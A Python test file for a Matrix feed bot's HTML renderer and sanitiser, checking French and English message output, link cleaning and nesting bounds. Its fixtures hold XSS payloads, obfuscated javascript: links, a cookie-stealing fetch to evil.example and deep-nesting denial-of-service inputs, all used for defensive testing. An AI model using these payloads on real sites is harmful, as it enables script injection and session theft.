"""Rendering: hostile feed HTML is neutralised, and members read clean French or English."""

from __future__ import annotations

import html
import re
import time
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest

from bot.model import Entry, Message
from bot.plan import fingerprint
from bot.render import (
    ALLOWED_TAGS,
    DEFAULT_MAX_MESSAGE_BYTES,
    MAX_DEPTH,
    TITLE_CHARS,
    bounded_title,
    clean_link,
    format_date,
    html_to_text,
    link_markup,
    message_size,
    render_entry,
    safe_state_content,
    sanitize_html,
)
from bot.transport.matrix.events import safe_event_content

NBSP = "\u00a0"
NNBSP = "\u202f"
LINK = "https://interhop.org/2025/12/22/goupile"
GOLDEN = Path(__file__).parent / "data" / "golden"


def entry(**overrides: object) -> Entry:
    fields: dict[str, object] = {
        "entry_id": "urn:1", "title": f"Goupile{NBSP}: nouvelle version", "link": LINK,
        "summary_html": "<p>L'association <strong>InterHop</strong> publie la version 3.0 "
                        'de <a href="/goupile">Goupile</a>.</p>',
        "content_html": "", "published": datetime(2025, 12, 22, 9, 30, tzinfo=UTC),
    }
    fields.update(overrides)
    return Entry(**fields)  # type: ignore[arg-type]


# --- golden output ----------------------------------------------------------------------

def test_golden_french() -> None:
    message = render_entry(entry(), feed_title="InterHop", language="fr")
    assert message == Message(
        body=(f"Goupile{NBSP}: nouvelle version\n"
              "InterHop · 22 décembre 2025\n"
              "\n"
              "L'association InterHop publie la version 3.0 de Goupile "
              "(https://interhop.org/goupile).\n"
              "\n"
              f"{LINK}"),
        html=(f'<p><strong><a href="{LINK}">Goupile&nbsp;: nouvelle version</a></strong>'
              "<br><em>InterHop · 22 décembre 2025</em></p>"
              "<p>L'association <strong>InterHop</strong> publie la version 3.0 de "
              '<a href="https://interhop.org/goupile">Goupile</a>.</p>'
              f'<p><a href="{LINK}">Lire la suite</a></p>'),
    )


def test_golden_english() -> None:
    message = render_entry(entry(title="Goupile: new release",
                                 summary_html="<p>InterHop releases <em>Goupile</em> 3.0.</p>"),
                           feed_title="InterHop", language="en")
    assert message == Message(
        body=("Goupile: new release\n"
              "InterHop · 22 December 2025\n"
              "\n"
              "InterHop releases Goupile 3.0.\n"
              "\n"
              f"{LINK}"),
        html=(f'<p><strong><a href="{LINK}">Goupile: new release</a></strong>'
              "<br><em>InterHop · 22 December 2025</em></p>"
              "<p>InterHop releases <em>Goupile</em> 3.0.</p>"
              f'<p><a href="{LINK}">Read more</a></p>'),
    )


# --- the message's pieces ---------------------------------------------------------------

@pytest.mark.parametrize(("language", "untitled"), [("fr", "(sans titre)"),
                                                    ("en", "(untitled)")])
def test_untitled_entry_without_link_date_or_feed(language: str, untitled: str) -> None:
    message = render_entry(entry(title="  ", link=None, published=None,
                                 summary_html="<p>Un court texte.</p>"), language=language)
    assert message == Message(body=f"{untitled}\n\nUn court texte.",
                              html=f"<p><strong>{untitled}</strong></p><p>Un court texte.</p>")


def test_title_is_escaped_text() -> None:
    message = render_entry(entry(title="Use <b>bold</b> & <script>x</script>", summary_html=""),
                           language="en")
    assert message.html.startswith(
        f'<p><strong><a href="{LINK}">Use &lt;b&gt;bold&lt;/b&gt; &amp; '
        "&lt;script&gt;x&lt;/script&gt;</a></strong>")
    assert "<b>" not in message.html
    assert message.body.startswith("Use <b>bold</b> & <script>x</script>\n")


def test_feed_title_and_link_are_escaped() -> None:
    link = 'https://example.org/actualités?a=1&b="2"&c=<x> y'
    message = render_entry(entry(link=link, summary_html=""), feed_title="A <i>&</i> B",
                           language="en")
    clean_link = "https://example.org/actualités?a=1&b=%222%22&c=%3Cx%3E%20y"
    assert f'<a href="{clean_link.replace("&", "&amp;")}">' in message.html
    assert sanitize_html(message.html) == message.html
    assert "<em>A &lt;i&gt;&amp;&lt;/i&gt; B · 22 December 2025</em>" in message.html
    assert message.body.endswith("\n\n" + clean_link)


@pytest.mark.parametrize("link", ["javascript:alert(1)", "/relative/path", "data:text/html,x",
                                  "ftp://example.org/x", ""])
def test_unsafe_entry_link_is_no_link(link: str) -> None:
    message = render_entry(entry(link=link), language="fr")
    assert "Lire la suite" not in message.html
    assert message.html.startswith("<p><strong>Goupile")
    # No base URL either, so the summary's relative link loses its href too.
    assert "href" not in message.html
    assert message.body.endswith("la version 3.0 de Goupile.")


def test_only_date_in_meta_line() -> None:
    message = render_entry(entry(summary_html="", link=None,
                                 published=None, updated=datetime(2026, 1, 1, tzinfo=UTC)),
                           language="fr")
    assert message == Message(
        body=f"Goupile{NBSP}: nouvelle version\n1er janvier 2026",
        html="<p><strong>Goupile&nbsp;: nouvelle version</strong><br><em>1er janvier 2026"
             "</em></p>")


def test_summary_equal_to_title_is_not_repeated() -> None:
    message = render_entry(entry(title="Assemblée générale 2025",
                                 summary_html="<p>Assemblée  générale\n2025</p>"),
                           language="fr")
    assert message.body.count("Assemblée") == 1
    assert message.html.count("Assemblée") == 1


def test_content_is_used_when_there_is_no_summary() -> None:
    message = render_entry(entry(summary_html="  ", content_html="<p>Le contenu complet.</p>"),
                           language="fr")
    assert "<p>Le contenu complet.</p>" in message.html
    assert "\n\nLe contenu complet.\n\n" in message.body


def test_plain_text_summary_keeps_its_paragraphs() -> None:
    message = render_entry(entry(summary_html="Premier paragraphe.\n\nSecond\nparagraphe &amp; "
                                              "fin."), language="fr")
    assert "<p>Premier paragraphe.</p><p>Second<br>paragraphe &amp; fin.</p>" in message.html
    assert "Premier paragraphe.\n\nSecond\nparagraphe & fin." in message.body


def test_long_summary_is_cut_at_a_word_boundary() -> None:
    words = ("La protection des données de santé est un enjeu majeur pour les patients "
             "et les soignants ") * 20
    message = render_entry(entry(summary_html=f"<p>{words}</p>"), language="fr",
                           summary_chars=100)
    summary = message.body.split("\n\n")[1]
    assert summary.endswith("…")
    assert len(summary) <= 101
    cut = summary[:-1]
    assert words.startswith(cut)
    assert words[len(cut)] == " "  # ended on a whole word
    assert cut == "La protection des données de santé est un enjeu majeur pour les patients et " \
                  "les soignants La"
    assert f"<p>{cut}…</p>" in message.html
    # The cut version replaces the full HTML summary.
    assert message.html.count("protection") == 1


def test_cut_drops_trailing_punctuation_and_keeps_short_summaries() -> None:
    text = "Un, deux, trois, quatre, cinq, six, sept, huit, neuf, dix, onze, douze"
    message = render_entry(entry(summary_html=text), language="fr", summary_chars=20)
    assert message.body.split("\n\n")[1] == "Un, deux, trois…"
    short = render_entry(entry(summary_html=text), language="fr", summary_chars=len(text))
    assert short.body.split("\n\n")[1] == text


def test_zero_summary_chars_means_no_summary() -> None:
    message = render_entry(entry(), language="en", summary_chars=0)
    assert message.body == f"Goupile{NBSP}: nouvelle version\n22 December 2025\n\n{LINK}"


def test_cut_of_one_enormous_word_is_hard() -> None:
    message = render_entry(entry(summary_html="a" * 50), language="en", summary_chars=10)
    assert message.body.split("\n\n")[1] == "a" * 10 + "…"


def test_cut_summary_is_escaped() -> None:
    message = render_entry(entry(summary_html="<p>a &lt;script&gt; " + "mot " * 50 + "</p>"),
                           language="en", summary_chars=30)
    assert "<p>a &lt;script&gt; mot" in message.html
    assert "<script" not in message.html


HOSTILE_SUMMARY = (
    '<script>alert("x")</script><style>p{background:url(evil)}</style>'
    '<iframe src="https://evil.example/"></iframe>'
    '<p onclick="steal()" style="position:fixed">Texte <a href="javascript:alert(1)">lien</a>'
    '<img src="https://tracker.example/p.gif" width="1" height="1"></p>'
)


@pytest.mark.parametrize("language", ["fr", "en"])
def test_rendered_html_is_already_sanitised(language: str) -> None:
    for item in [entry(), entry(summary_html=HOSTILE_SUMMARY),
                 entry(title="<img src=x onerror=alert(1)>", summary_html=HOSTILE_SUMMARY,
                       link='https://example.org/"><script>alert(1)</script>'),
                 entry(summary_html=HOSTILE_SUMMARY * 30)]:
        message = render_entry(item, feed_title="<script>f</script>", language=language,
                               summary_chars=200)
        # Our own markup uses only allowed constructs: sanitising changes nothing.
        assert sanitize_html(message.html) == message.html
        # The plain body shows titles as text (that is its job); the summary part of it
        # must not carry what the sanitiser removed.
        summary_text = "\n\n".join(message.body.split("\n\n")[1:])
        for bad in ("<script", "<img", "<iframe", "onclick", "javascript:", "tracker",
                    "alert(\"", "background"):
            assert bad not in message.html
            assert bad not in summary_text


# --- sanitize_html ----------------------------------------------------------------------

@pytest.mark.parametrize(("dirty", "clean"), [
    ('<script>alert("x")</script>ok', "ok"),
    ("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>ok", "ok"),
    ('<iframe src="https://evil.example/">inner text</iframe>ok', "ok"),
    ("<style>p { color: red }</style>ok", "ok"),
    ("<object data=x.swf>fallback</object><embed src=x.swf>ok", "ok"),
    ("<noscript><p>enable js</p></noscript>ok", "ok"),
    ("<svg onload=alert(1)><script>alert(2)</script></svg>ok", "ok"),
    ("<math><mi>x</mi></math>ok", "ok"),
    ('<img src="x" onerror="alert(1)">ok', "ok"),
    ('<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">ok', "ok"),
    ('<img src="mxc://example.org/abc" alt="pic">ok', "ok"),
    ('<p onclick="steal()" onmouseover="x" style="color:red" class="c" id="i">t</p>',
     "<p>t</p>"),
    ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"),
    ('<a href=" javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="java\tscript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="&#106;avascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="javascript&colon;alert(1)">x</a>', "<a>x</a>"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "<a>x</a>"),
    ('<a href="vbscript:msgbox(1)">x</a>', "<a>x</a>"),
    ('<a href="file:///etc/passwd">x</a>', "<a>x</a>"),
    ('<form action="https://evil.example"><input name="p"><button>Go</button></form>', "Go"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="x">ok', "ok"),
    ("<!-- secret comment --><!--[if IE]><script>x</script><![endif]-->ok", "ok"),
    ('<div style="background:url(javascript:alert(1))">ok</div>', "<div>ok</div>"),
    ('<font color="red" data-mx-color="#FF0000" face="x">f</font>',
     '<font data-mx-color="#FF0000">f</font>'),
    ('<span data-mx-color="javascript:x" data-mx-spoiler="raison">s</span>',
     '<span data-mx-spoiler="raison">s</span>'),
    ('<code class="language-python hljs">x</code>', '<code class="language-python">x</code>'),
    ('<code class="evil">x</code>', "<code>x</code>"),
    ('<ol start="3x"><li>a</li></ol>', "<ol><li>a</li></ol>"),
])
def test_sanitize_strips_hostile_constructs(dirty: str, clean: str) -> None:
    assert sanitize_html(dirty) == clean


def test_allowed_tags_and_attributes_are_kept() -> None:
    kept = (
        '<h1>h1</h1><h2>h2</h2><h3>h3</h3><h4>h4</h4><h5>h5</h5><h6>h6</h6>'
        "<p><b>b</b><i>i</i><u>u</u><strong>s</strong><em>e</em><s>s</s><strike>st</strike>"
        "<del>d</del><sup>1</sup><sub>2</sub><code>c</code><br>"
        '<font data-mx-bg-color="#000000" data-mx-color="#FFFFFF" color="#123456">f</font>'
        '<span data-mx-bg-color="#000000" data-mx-color="#ffffff" data-mx-spoiler="">sp</span>'
        '<a href="https://interhop.org/" name="n" target="_blank">web</a>'
        '<a href="mailto:contact@interhop.org">mail</a><a href="mxc://example.org/abc">m</a>'
        '<a href="http://example.org">http</a></p>'
        "<blockquote><p>q</p></blockquote>"
        '<ul><li>a</li></ul><ol start="5"><li>b</li></ol>'
        "<hr><div>div</div>"
        "<table><caption>cap</caption><thead><tr><th>h</th></tr></thead>"
        "<tbody><tr><td>d</td></tr></tbody></table>"
        '<pre><code class="language-python">x = 1\n</code></pre>'
        "<details><summary>plus</summary>détails</details>"
    )
    assert sanitize_html(kept) == kept
    for tag in ALLOWED_TAGS:
        assert f"<{tag}" in kept, tag


def test_no_rel_is_added_to_links() -> None:
    assert sanitize_html('<a href="https://e.org/">x</a>') == '<a href="https://e.org/">x</a>'


def test_relative_links_resolve_against_base_or_are_dropped() -> None:
    source = '<a href="/about">à propos</a> <a href="../x?a=1#f">x</a> <a href="#top">top</a>'
    assert sanitize_html(source, base_url="https://interhop.org/blog/post/") == (
        '<a href="https://interhop.org/about">à propos</a> '
        '<a href="https://interhop.org/blog/x?a=1#f">x</a> '
        '<a href="https://interhop.org/blog/post/#top">top</a>')
    assert sanitize_html(source) == "<a>à propos</a> <a>x</a> <a>top</a>"
    # A base that is not a web URL must not let relative links through.
    assert sanitize_html(source, base_url="javascript:x") == sanitize_html(source)


def test_french_text_is_kept_intact() -> None:
    source = (f"<p>Données de santé{NBSP}: «{NBSP}éthique{NBSP}» — 10{NNBSP}% ; "
              "l’hôpital où ça déçoit. ÉÀÇ œ</p>")
    out = sanitize_html(source)
    assert html.unescape(out) == source
    assert html_to_text(source) == source[3:-4]


# --- html_to_text -----------------------------------------------------------------------

def test_html_to_text_structure() -> None:
    source = """
        <h2>Titre</h2>
        <p>Premier   paragraphe,
           sur deux lignes.<br>Après un saut.</p>
        <p>&nbsp;</p>
        <ul><li>un</li><li>deux<ul><li>deux-a</li></ul></li></ul>
        <ol start="3"><li>trois</li><li>quatre</li></ol>
        <blockquote><p>Citation</p><p>suite</p></blockquote>
        <pre>  indenté
    gardé</pre>
        <table><tr><th>A</th><th>B</th></tr><tr><td>1</td><td>2</td></tr></table>
        <hr>
        <p>Fin &amp; &lt;merci&gt;</p>
        <script>document.write("no")</script><style>p{}</style>
    """
    assert html_to_text(source) == (
        "Titre\n\n"
        "Premier paragraphe, sur deux lignes.\nAprès un saut.\n\n"
        "• un\n• deux\n  • deux-a\n\n"
        "3. trois\n4. quatre\n\n"
        "> Citation\n>\n> suite\n\n"
        "  indenté\n    gardé\n\n"
        "A | B\n1 | 2\n\n"
        "———\n\n"
        "Fin & <merci>"
    )


@pytest.mark.parametrize(("source", "text"), [
    ('Voir <a href="https://interhop.org/dons">le site</a>.',
     "Voir le site (https://interhop.org/dons)."),
    ('<a href="https://interhop.org/">https://interhop.org</a>', "https://interhop.org"),
    ('<a href="https://www.interhop.org/">interhop.org</a>', "interhop.org"),
    ('<a href="mailto:contact@interhop.org">contact@interhop.org</a>',
     "contact@interhop.org"),
    ('<a href="https://e.org/x"></a>', "https://e.org/x"),
    ('<a href="javascript:alert(1)">clic</a>', "clic"),
    ("<a>ancre</a>", "ancre"),
    ('<p><a href="https://e.org/"><b>gras</b> lien</a></p>', "gras lien (https://e.org/)"),
    ("", ""),
    ("texte <b>sans</b> balise", "texte sans balise"),
])
def test_html_to_text_links(source: str, text: str) -> None:
    assert html_to_text(source) == text


# --- dates ------------------------------------------------------------------------------

@pytest.mark.parametrize(("dt", "language", "text"), [
    (datetime(2025, 12, 22, tzinfo=UTC), "fr", "22 décembre 2025"),
    (datetime(2025, 12, 22, tzinfo=UTC), "en", "22 December 2025"),
    (datetime(2026, 1, 1, tzinfo=UTC), "fr", "1er janvier 2026"),
    (datetime(2026, 1, 1, tzinfo=UTC), "en", "1 January 2026"),
    (datetime(2025, 2, 2, tzinfo=UTC), "fr", "2 février 2025"),
    (datetime(2025, 8, 15, tzinfo=UTC), "fr", "15 août 2025"),
    (datetime(2025, 8, 31, tzinfo=UTC), "fr-FR", "31 août 2025"),
    (datetime(2025, 8, 31, tzinfo=UTC), "de", "31 August 2025"),
    (datetime(2025, 8, 21, tzinfo=UTC), "fr", "21 août 2025"),
])
def test_format_date(dt: datetime, language: str, text: str) -> None:
    assert format_date(dt, language) == text


def test_all_french_months() -> None:
    months = [format_date(datetime(2025, m, 10), "fr").split()[1] for m in range(1, 13)]
    assert months == ["janvier", "février", "mars", "avril", "mai", "juin", "juillet",
                      "août", "septembre", "octobre", "novembre", "décembre"]


# --- issue 10: one link cleaner, one sanitiser, bounded depth and titles -----------------

# Every spelling of a link that must never be one (WHATWG drops tabs, newlines and leading
# controls before reading the scheme: "java\tscript:" is javascript:).
HOSTILE_LINKS = [
    "javascript:fetch('https://evil.example/steal?c='+document.cookie)",
    "JaVaScRiPt:alert(1)", "  javascript:alert(1)", "java\tscript:alert(1)",
    "jav\nascript:alert(1)", "\x01\x02javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DaTa:text/html,x",
    "&#106;avascript:alert(1)", "file:///etc/passwd", "//evil.example/x", "/relative",
    "https:evil.example", "http://", "", None,
]


class _Links(HTMLParser):
    """Every href and img src of some HTML, decoded as a browser decodes them."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.hrefs: list[str] = []
        self.images: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if tag == "a" and name == "href":
                self.hrefs.append(value or "")
            if tag == "img" and name == "src":
                self.images.append(value or "")


def nesting_depth(markup: str) -> int:
    """How deep elements nest in ``markup`` (an independent count, void tags excluded)."""
    class Depth(HTMLParser):
        depth = deepest = 0

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag not in ("br", "hr", "img"):
                self.depth += 1
                self.deepest = max(self.deepest, self.depth)

        def handle_endtag(self, tag: str) -> None:
            self.depth -= 1

    counter = Depth()
    counter.feed(markup)
    return counter.deepest


def web_link(value: str) -> bool:
    return value.startswith(("https://", "http://", "mailto:"))


@pytest.mark.parametrize("link", HOSTILE_LINKS)
def test_no_spelling_of_a_hostile_link_becomes_a_link(link: str | None) -> None:
    assert clean_link(link) is None
    assert link_markup("Titre <b>", link) == "Titre &lt;b&gt;"
    message = render_entry(entry(link=link))
    # No link at all: not the title's, not even the summary's relative one (no base).
    assert _Links(message.html).hrefs == []
    assert "script:" not in message.body.lower() and "data:" not in message.body.lower()


def test_clean_link_keeps_web_links_in_a_form_safe_everywhere() -> None:
    assert clean_link(LINK) == LINK
    assert clean_link(f"  {LINK}\n") == LINK
    assert clean_link("HTTP://Example.org/a b\"<c>") == "HTTP://Example.org/a%20b%22%3Cc%3E"
    # A bidi override would make the address read as another one; accents stay readable.
    assert clean_link("https://example.org/\u202egnp.exe") == "https://example.org/%E2%80%AEgnp.exe"
    assert clean_link("https://example.org/santé") == "https://example.org/santé"
    assert clean_link("https://example.org/" + "a" * 2000) is None
    for link in (LINK, "HTTP://Example.org/a b", "https://example.org/\u202e"):
        once = clean_link(link)
        assert once is not None and clean_link(once) == once
    assert link_markup('Un "titre" & <cie>', LINK + '?a=1&b="2"') == (
        f'<a href="{LINK}?a=1&amp;b=%222%22">Un "titre" &amp; &lt;cie&gt;</a>')


def test_the_send_chokepoint_cleans_a_hand_built_message() -> None:
    # As a future code path might build it: every spelling, in an edit too.
    dirty_html = (
        '<p><a href="javascript:alert(1)">a</a> <a href="JaVaScRiPt:alert(2)">b</a> '
        '<a href="java&#9;script:alert(3)">c</a> <a href="&#106;avascript:alert(4)">d</a> '
        '<a href="data:text/html,x">e</a> <a href=" vbscript:x">f</a> '
        '<a href="https://ok.example/a b">ok</a><script>alert(5)</script>'
        '<img src="https://tracker.example/p.gif"><img src="data:image/png;base64,AA==">'
        '<img src="mxc://hs.example/abc" alt="pic" width="10" height="10" onerror="x"></p>')
    dirty_body = "Voir javascript:alert(1) ou (data:text/html,x) mais https://x.example/?q=data:1"
    replacement = {"msgtype": "m.notice", "body": dirty_body,
                   "format": "org.matrix.custom.html", "formatted_body": dirty_html}
    dirty = {**replacement, "m.new_content": dict(replacement),
             "m.relates_to": {"rel_type": "m.replace", "event_id": "$x"}, "m.mentions": {}}
    safe = safe_event_content(dirty)
    assert dirty["formatted_body"] == dirty_html          # the caller's dict is untouched
    for content in (safe, safe["m.new_content"]):
        assert isinstance(content, dict)
        links = _Links(str(content["formatted_body"]))
        assert links.hrefs == ["https://ok.example/a%20b"]
        assert links.images == ["mxc://hs.example/abc"]   # the bot's own inline image stays
        for text in (str(content["formatted_body"]), str(content["body"])):
            assert "alert(5)" not in text and "onerror" not in text
            # What a linkifier would take for a scheme is broken by a word joiner.
            assert re.search(r"(?i)(?<![\w=])(javascript|data):", text) is None, text
        assert content["body"] == dirty_body.replace("javascript:", "javascript\u2060:") \
            .replace("(data:", "(data\u2060:")
    assert safe["m.relates_to"] == dirty["m.relates_to"] and safe["m.mentions"] == {}


def test_the_send_chokepoint_changes_nothing_the_bot_renders() -> None:
    # Items are sanitised when rendered: the chokepoint must leave them as they are (so a
    # resend is the same event), golden files and an inline image included.
    contents = [{"body": (GOLDEN / f"{name}.txt").read_text().strip(),
                 "formatted_body": (GOLDEN / f"{name}.html").read_text().strip()}
                for name in sorted({p.stem for p in GOLDEN.glob("*.html")})]
    message = render_entry(entry())
    contents.append({"body": message.body, "formatted_body": message.html.replace(
        "</p>", '</p><p><img src="mxc://hs.example/abc" alt="Goupile : l&#x27;image" '
        'width="640" height="480"></p>', 1)})
    for content in contents:
        once = safe_event_content(content)
        assert safe_event_content(once) == once
        assert once["body"] == content["body"]
    for content in contents[:-1]:
        assert safe_event_content(content) == content


def test_a_topic_is_cleaned_like_a_message() -> None:
    content = {"topic": "Annonces — Dernier : Titre javascript:alert(1)",
               "m.topic": {"m.text": [
                   {"mimetype": "text/html", "body": '<a href="javascript:x">t</a>'},
                   {"body": "data:text/html,x"}]}}
    safe = safe_state_content("m.room.topic", content)
    assert safe["topic"] == "Annonces — Dernier : Titre javascript\u2060:alert(1)"
    assert safe["m.topic"] == {"m.text": [{"mimetype": "text/html", "body": "<a>t</a>"},
                                          {"body": "data\u2060:text/html,x"}]}
    assert safe_state_content("m.room.name", {"name": "javascript:x"}) == {"name": "javascript:x"}


@pytest.mark.parametrize("depth", [3_000, 20_000])
def test_deeply_nested_html_renders_and_fingerprints(depth: int) -> None:
    # 3,000 nested <div> raised RecursionError in every walk of the tree.
    deep = "<div>" * depth + "<p>Tout au fond.</p>" + "</div>" * depth
    nested = entry(summary_html="", content_html="<p>En surface.</p>" + deep)
    for content in ("summary", "full"):
        message = render_entry(nested, content=content)
        assert "En surface." in message.body
        assert nesting_depth(message.html) <= MAX_DEPTH
        assert message_size(message) <= DEFAULT_MAX_MESSAGE_BYTES
    assert "Tout au fond." in render_entry(nested, content="full").body
    assert "Tout au fond." in html_to_text(deep)
    assert fingerprint(nested) != fingerprint(entry(summary_html="", content_html=deep))


# What html5ever (inside nh3) nests without bound, each spending time quadratic in the
# depth: 20,000 nested <div> took 1.8 s in nh3 alone, 100,000 took 80 s.
DEEP_PATTERNS = {
    "div": "<div>{}</div>", "unclosed div": "<div>x{}", "list": "<ul><li>{}",
    "quote": "<blockquote>{}", "misnested": "<b><div></b>{}", "link": '<a href="/"><div></a>{}',
    "comment": "<div><!--</div>-->{}", "attribute": '<div title="</div>">{}',
    "spaced end": "<div></ div>{}", "table": "<table><tr><td><div>{}",
}


@pytest.mark.parametrize("pattern", DEEP_PATTERNS.values(), ids=list(DEEP_PATTERNS))
def test_sanitised_html_never_nests_deeper_than_the_bound(pattern: str) -> None:
    before, after = pattern.split("{}")
    markup = before * 20_000 + "<p>fond</p>" + after * 20_000
    clean = sanitize_html(markup)
    assert nesting_depth(clean) <= MAX_DEPTH
    assert "fond" in html_to_text(clean)


def test_a_hundred_thousand_nested_divs_take_seconds_not_minutes() -> None:
    deep = "<div>" * 100_000 + "<p>Tout au fond.</p>" + "</div>" * 100_000
    started = time.monotonic()
    message = render_entry(entry(summary_html="", content_html=deep), content="full")
    assert time.monotonic() - started < 60      # 80 s in nh3 alone without the bound
    assert "Tout au fond." in message.body


def test_an_ordinary_document_reaches_the_sanitiser_unchanged() -> None:
    # The depth bound only rewrites deep documents: 99 levels are kept as they are.
    markup = "<div>" * 99 + "<p>x</p>" + "</div>" * 99
    assert sanitize_html(markup) == markup
    assert nesting_depth(sanitize_html("<div>" * 101 + "x")) == MAX_DEPTH


@pytest.mark.parametrize("title", ["mot " * 17_500, "x" * 70_000])
def test_a_70000_character_title_renders_under_the_budget(title: str) -> None:
    message = render_entry(entry(title=title))
    assert message_size(message) <= DEFAULT_MAX_MESSAGE_BYTES
    shown = message.body.split("\n", 1)[0]
    assert len(shown) <= 251 and shown.endswith("…")


def test_bounded_title() -> None:
    assert bounded_title("  Un\ttitre\n court ") == "Un titre court"
    long = bounded_title("mot " * 1000)
    assert len(long) <= TITLE_CHARS + 1 and long.endswith("mot…")
    assert len(bounded_title("x" * 70_000)) == TITLE_CHARS + 1
    assert bounded_title("mot " * 1000, 20) == "mot mot mot mot mot…"
